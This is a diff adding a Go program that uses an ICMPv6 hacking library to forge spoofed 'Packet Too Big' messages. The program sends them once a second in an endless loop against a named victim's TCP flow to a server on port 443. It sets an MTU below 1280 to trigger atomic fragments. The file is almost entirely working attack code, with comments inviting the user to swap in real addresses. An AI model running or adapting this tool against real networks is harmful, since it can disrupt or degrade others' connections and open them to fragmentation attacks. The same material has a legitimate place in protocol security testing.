@@ -0,0 +1,54 @@
+// Packet Too Big for a TCP flow
+package main
+
+import (
+	"fmt"
+	"github.com/BobBurns/hackicmp6/hi6"
+	"os"
+	"syscall"
+	"time"
+)
+
+func main() {
+	if len(os.Args) < 2 {
+		fmt.Println("must specify interface!")
+		os.Exit(-1)
+	}
+	t := hi6.ICMP6{
+		Iface: os.Args[1],
+		// change the addresses to suit your need
+		SrcIP:  "2001:db8:103::1",
+		SrcMAC: "c0:8c:60:de:ad:bf",
+		DstMAC: "88:f7:c7:de:ad:bf",
+	}
+	// the victim talks to 2001:db8:200::80 on port 443
+	flow := hi6.InvokingPacket{
+		SrcIP:   "2001:db8:103:b::1",
+		DstIP:   "2001:db8:200::80",
+		Proto:   syscall.IPPROTO_TCP,
+		SrcPort: 51515,
+		DstPort: 443,
+		Seq:     uint32(123456789),
+		Ack:     uint32(987654321),
+	}
+	// below 1280 to test atomic fragments
+	err := t.SetPacketTooBig(1000, flow)
+	if err == nil {
+		err = t.BuildICMPPacket()
+	}
+	if err != nil {
+		fmt.Println("errors found...")
+		fmt.Println(err)
+		fmt.Println("exiting.")
+		os.Exit(-1)
+	}
+	for {
+		fmt.Printf(".")
+		err = t.Send()
+		if err != nil {
+			fmt.Println(err)
+			os.Exit(-1)
+		}
+		time.Sleep(time.Duration(1 * time.Second))
+	}
+}